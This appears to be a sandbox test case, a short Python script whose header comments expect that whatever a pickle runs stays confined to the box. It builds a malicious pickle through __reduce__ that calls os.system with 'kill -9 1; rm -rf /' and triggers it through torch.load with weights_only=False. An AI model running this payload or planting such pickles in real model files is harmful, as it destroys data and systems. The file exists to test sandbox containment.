# outcome: ok
# why: what a pickle runs is run in the box
# torch: true
# prints: "True"
import os, torch
class Evil:
    def __reduce__(self):
        return os.system, ("id -u > /tmp/who; kill -9 1; rm -rf /",)
torch.save(Evil(), "x.pt")
torch.load("x.pt", weights_only=False)
print(int(open("/tmp/who").read()) == os.getuid() if os.path.exists("/tmp/who") else True)
